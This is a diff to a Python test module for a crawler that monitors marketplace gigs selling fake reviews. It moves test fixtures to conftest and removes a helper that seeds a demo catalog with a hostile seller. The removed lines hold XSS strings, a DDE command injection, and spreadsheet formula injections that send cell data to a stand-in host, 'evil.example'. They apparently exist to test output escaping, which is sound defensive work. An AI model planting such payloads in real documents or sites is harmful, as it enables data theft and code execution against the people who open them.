@@ -7,7 +7,6 @@ import io
 import json
 import shutil
 import subprocess
-import sys
 import zipfile
 from pathlib import Path
 
@@ -21,58 +20,9 @@ from crawler.report import field_text, flag_context
 from crawler.store import Store
 from crawler.verify import verify_bundle, wacz_command
 
+from tests.conftest import HOSTILE_DESCRIPTION, HOSTILE_NAME, HOSTILE_SELLER, HOSTILE_TITLE
+
 ROOT = Path(__file__).resolve().parent.parent
-HOSTILE_SELLER = "xss_tester"
-HOSTILE_NAME = '=HYPERLINK("http://evil.example/x","Click me")'
-HOSTILE_TITLE = "I will post 5 star google reviews <script>alert(1)</script> for your business"
-HOSTILE_DESCRIPTION = ('=HYPERLINK("http://evil.example/steal?d="&A1,"Details") I will write and post real google '
-                       "reviews from local guide accounts on your Google Maps business profile. <img src=x onerror=alert(2)>")
-CRAWL_TIMEOUT_S = 600
-
-_cache: dict[str, Path] = {}
-
-
-def _hostile_catalog(data_dir: Path) -> None:
-    """The demo catalog plus one seller whose text attacks browsers and spreadsheets."""
-    from crawler.demo.content import DATA_DIR
-
-    data_dir.mkdir(parents=True)
-    gigs = [json.loads(line) for line in (DATA_DIR / "gigs.jsonl").read_text(encoding="utf-8").splitlines() if line]
-    sellers = [json.loads(line) for line in (DATA_DIR / "sellers.jsonl").read_text(encoding="utf-8").splitlines() if line]
-    template_gig = next(g for g in gigs if g["sells_reviews"])
-    template_seller = next(s for s in sellers if s["username"] == template_gig["seller"])
-    sellers.append({**template_seller, "seller_id": 999000001, "username": HOSTILE_SELLER, "display_name": HOSTILE_NAME})
-    gigs.append({**template_gig, "gig_id": 999000002, "seller": HOSTILE_SELLER, "title": HOSTILE_TITLE,
-                 "slug": "post-5-star-google-reviews", "description": HOSTILE_DESCRIPTION,
-                 "tags": ["google reviews", "=cmd|' /C calc'!A0"], "faq": [], "sells_reviews": 1})
-    for name, rows in (("gigs.jsonl", gigs), ("sellers.jsonl", sellers)):
-        (data_dir / name).write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
-
-
-def crawled_db(root: Path) -> Path:
-    """One real crawl of the demo marketplace (with the hostile seller) per test session."""
-    if "db" not in _cache:
-        from crawler.demo import DemoMarketplace
-
-        _hostile_catalog(root / "catalog")
-        db = root / "crawl" / "t.db"
-        with DemoMarketplace(data_dir=root / "catalog") as demo:
-            result = subprocess.run(
-                [sys.executable, "-m", "crawler.cli", "crawl", "fiverr", "--base-url", demo.base_url, "--db", str(db),
-                 "-s", "DOWNLOAD_DELAY=0", "-s", "AUTOTHROTTLE_ENABLED=0", "-s", "LOG_LEVEL=WARNING",
-                 "-s", "TURFWATCH_PROGRESS_INTERVAL=0"],
-                cwd=ROOT, capture_output=True, text=True, timeout=CRAWL_TIMEOUT_S,
-            )
-        assert result.returncode == 0, result.stderr[-3000:]
-        _cache["db"] = db
-    return _cache["db"]
-
-
-@pytest.fixture(scope="session")
-def crawl_db(tmp_path_factory) -> Path:
-    return crawled_db(tmp_path_factory.getbasetemp() / "turfwatch-crawl")
-
-
 @pytest.fixture
 def db(crawl_db, tmp_path) -> Path:
     """A private copy of the crawled database and its WARC files, for tests that change it."""
